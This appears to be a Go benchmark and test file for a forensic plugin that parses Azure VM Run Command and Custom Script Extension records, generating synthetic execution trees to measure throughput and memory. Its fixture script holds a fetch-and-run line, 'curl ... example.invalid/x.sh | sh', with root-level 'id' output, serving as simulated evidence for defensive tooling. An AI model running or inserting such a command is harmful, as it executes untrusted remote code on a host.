package extensions

import (
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"testing"

	"github.com/Velocidex/ordereddict"
	"github.com/azvql/azvql/plugins/evidence"
	"github.com/azvql/azvql/plugins/protected"
	"www.velocidex.com/golang/vfilter"
)

// genExecTree writes n RC v1 executions (settings, status, script.sh,
// stdout, stderr and one dropped file each) below root.
func genExecTree(tb testing.TB, root string, n int) {
	tb.Helper()
	h := filepath.Join(root, filepath.FromSlash(rc1))
	dl := filepath.Join(root, "var", "lib", "waagent", "run-command", "download")
	for _, d := range []string{filepath.Join(h, "config"), filepath.Join(h, "status")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			tb.Fatal(err)
		}
	}
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	must(os.WriteFile(filepath.Join(h, "mrseq"), []byte(fmt.Sprint(n-1)), 0o600))
	script := "#!/bin/sh\ncurl -s https://example.invalid/x.sh | sh\nid\n"
	pub := fmt.Sprintf(`{"script": %q}`, base64.StdEncoding.EncodeToString([]byte(script)))
	for i := 0; i < n; i++ {
		s := fmt.Sprint(i)
		must(os.WriteFile(filepath.Join(h, "config", s+".settings"), []byte(settingsJSON(pub, i%2 == 0)), 0o644))
		must(os.WriteFile(filepath.Join(h, "status", s+".status"), []byte(goStatus("2024-05-02T10:11:15Z", "success", "Enable succeeded: \n[stdout]\nuid=0(root)\n\n[stderr]\n")), 0o644))
		d := filepath.Join(dl, s)
		must(os.MkdirAll(d, 0o700))
		must(os.WriteFile(filepath.Join(d, "script.sh"), []byte(script), 0o500))
		must(os.WriteFile(filepath.Join(d, "stdout"), []byte("uid=0(root) gid=0(root) groups=0(root)\n"), 0o600))
		must(os.WriteFile(filepath.Join(d, "stderr"), nil, 0o600))
		must(os.WriteFile(filepath.Join(d, "x.sh"), []byte("echo dropped\n"), 0o500))
	}
}

// genMixedTree writes n executions spread over every ExecKind family:
// Linux RC v1, managed RC v2 (10 names), CSE v2, Windows RC v1 (flat
// Downloads) and Windows CSE, each with settings, status, script or
// download, output and a dropped file.
func genMixedTree(tb testing.TB, root string, n int) {
	tb.Helper()
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	write := func(rel, content string) {
		p := filepath.Join(root, filepath.FromSlash(rel))
		must(os.MkdirAll(filepath.Dir(p), 0o755))
		must(os.WriteFile(p, []byte(content), 0o644))
	}
	per := n / 5
	genExecTree(tb, root, n-4*per)
	script := "#!/bin/sh\nid\n"
	st := goStatus("2024-05-02T10:11:15Z", "success", "Enable succeeded: \n[stdout]\nuid=0(root)\n\n[stderr]\n")
	const (
		rc2h = "var/lib/waagent/Microsoft.CPlat.Core.RunCommandHandlerLinux-1.3.17/"
		cseh = "var/lib/waagent/Microsoft.Azure.Extensions.CustomScript-2.1.10/"
		w1h  = "Packages/Plugins/Microsoft.CPlat.Core.RunCommandWindows/1.1.22/"
		wch  = "Packages/Plugins/Microsoft.Compute.CustomScriptExtension/1.10.15/"
	)
	for i := 0; i < per; i++ {
		name, seq := fmt.Sprintf("rc%d", i%10), fmt.Sprint(i/10)
		write(rc2h+"config/"+name+"."+seq+".settings", settingsJSON(`{"source": {"script": "id"}}`, true))
		write(rc2h+"status/"+name+"."+seq+".status", st)
		d := "var/lib/waagent/run-command-handler/download/" + name + "/" + seq + "/"
		write(d+"script.sh", script)
		write(d+"stdout", "uid=0(root)\n")
		write(d+"stderr", "")
		s := fmt.Sprint(i)
		write(cseh+"config/"+s+".settings", settingsJSON(`{"commandToExecute": "sh x.sh", "fileUris": ["https://example.invalid/x.sh"]}`, false))
		write(cseh+"status/"+s+".status", st)
		write("var/lib/waagent/custom-script/download/"+s+"/x.sh", script)
		write("var/lib/waagent/custom-script/download/"+s+"/stdout", "uid=0(root)\n")
		write(w1h+"RuntimeSettings/"+s+".settings", settingsJSON(`{"script": ["whoami"]}`, true))
		write(w1h+"Status/"+s+".status", winStatus("2024-05-03T10:00:05Z", "success", "nt authority\\system\n", ""))
		write(w1h+"Downloads/script"+s+".ps1", "whoami\n")
		write(w1h+"Downloads/out"+s+".txt", "x\n")
		write(wch+"RuntimeSettings/"+s+".settings", settingsJSON(`{"commandToExecute": "powershell -File a.ps1"}`, false))
		write(wch+"Status/"+s+".status", winStatus("2024-05-03T10:00:05Z", "success", "ok\n", ""))
		write(wch+"Downloads/"+s+"/a.ps1", "Write-Host ok\n")
	}
}

// BenchmarkExecutionsWalk walks a tree of 10,000 executions (RC v1 only,
// and mixed: every Linux and Windows kind) end to end
// (listing, reading, parsing, hashing, redaction, row building), with
// decryption on auto and no key present, as azure_run_executions runs. Budget
// (docs/design.md): under 2 s per walk, memory flat in the number of files.
// Metrics: rows/s, the peak heap in use during the walk (garbage
// included) and the live heap per execution halfway through the walk
// (the index of names and paths; contents are never accumulated).
func BenchmarkExecutionsWalk(b *testing.B) {
	for _, tc := range []struct {
		tree string
		n    int
		gen  func(testing.TB, string, int)
	}{{"rc1", 1000, genExecTree}, {"rc1", 10000, genExecTree}, {"mixed", 10000, genMixedTree}} {
		n := tc.n
		b.Run(fmt.Sprintf("%s/n=%d", tc.tree, n), func(b *testing.B) {
			root := b.TempDir()
			tc.gen(b, root, n)
			acc, _ := evidence.Get(nil, "file")
			b.ReportAllocs()
			b.ResetTimer()
			var peak, live uint64
			var ms runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&ms)
			base := ms.HeapAlloc
			cpu0 := processCPU()
			for i := 0; i < b.N; i++ {
				r := evidence.NewRoot(acc, root)
				// As the plugin walks: decrypt=auto, and no key on the
				// evidence (half the settings carry ciphertext).
				popts, _ := protected.NewOptions(nil, nil, "", "file", true)
				dec := protected.NewDecryptor(vfilter.NewScope(), r, popts)
				rows := 0
				WalkExecutionsDecrypt(context.Background(), r, true, dec, func(f string, a ...any) { b.Fatalf(f, a...) }, func(*ordereddict.Dict) bool {
					rows++
					if rows%1000 == 0 {
						runtime.ReadMemStats(&ms)
						if ms.HeapInuse > peak {
							peak = ms.HeapInuse
						}
					}
					if i == 0 && rows == n/2 {
						// What the walk keeps alive: its index, not contents.
						b.StopTimer()
						runtime.GC()
						runtime.ReadMemStats(&ms)
						live = ms.HeapAlloc - base
						b.StartTimer()
					}
					return true
				})
				if rows != n {
					b.Fatalf("rows %d, want %d", rows, n)
				}
			}
			b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
			if d := processCPU() - cpu0; d > 0 {
				// CPU seconds per walk (the tree generation is outside).
				b.ReportMetric(d.Seconds()/float64(b.N), "cpu-s/walk")
			}
			b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MB")
			b.ReportMetric(float64(live)/float64(n), "live-B/exec")
		})
	}
}

// TestWriteExecTree writes genExecTree's tree of AZVQL_EXEC_N executions
// into AZVQL_EXEC_TREE, for measuring the plugin's peak RSS through vql
// (`make bench`, docs/performance.md); skipped unless both are set.
func TestWriteExecTree(t *testing.T) {
	dir, n := os.Getenv("AZVQL_EXEC_TREE"), 0
	if dir == "" || os.Getenv("AZVQL_EXEC_N") == "" {
		t.Skip("AZVQL_EXEC_TREE and AZVQL_EXEC_N not set")
	}
	if _, err := fmt.Sscan(os.Getenv("AZVQL_EXEC_N"), &n); err != nil || n <= 0 {
		t.Fatalf("AZVQL_EXEC_N=%q: %v", os.Getenv("AZVQL_EXEC_N"), err)
	}
	genExecTree(t, dir, n)
}

// TestWalkHeapProfile walks the tree in AZVQL_EXEC_TREE and writes the
// heap profile (live objects) halfway through the rows to
// AZVQL_HEAP_PROFILE: what the walk's memory is made of (`go tool pprof
// -sample_index=inuse_space -top`); skipped unless both are set.
func TestWalkHeapProfile(t *testing.T) {
	dir, prof := os.Getenv("AZVQL_EXEC_TREE"), os.Getenv("AZVQL_HEAP_PROFILE")
	if dir == "" || prof == "" {
		t.Skip("AZVQL_EXEC_TREE and AZVQL_HEAP_PROFILE not set")
	}
	acc, _ := evidence.Get(nil, "file")
	r := evidence.NewRoot(acc, dir)
	var rows []int
	WalkExecutions(context.Background(), r, true, t.Logf, func(*ordereddict.Dict) bool { rows = append(rows, 0); return true })
	n, seen := len(rows), 0
	WalkExecutions(context.Background(), r, true, t.Logf, func(*ordereddict.Dict) bool {
		if seen++; seen == n/2 {
			f, err := os.Create(prof)
			if err != nil {
				t.Fatal(err)
			}
			runtime.GC()
			if err := pprof.WriteHeapProfile(f); err != nil {
				t.Fatal(err)
			}
			f.Close()
		}
		return true
	})
}
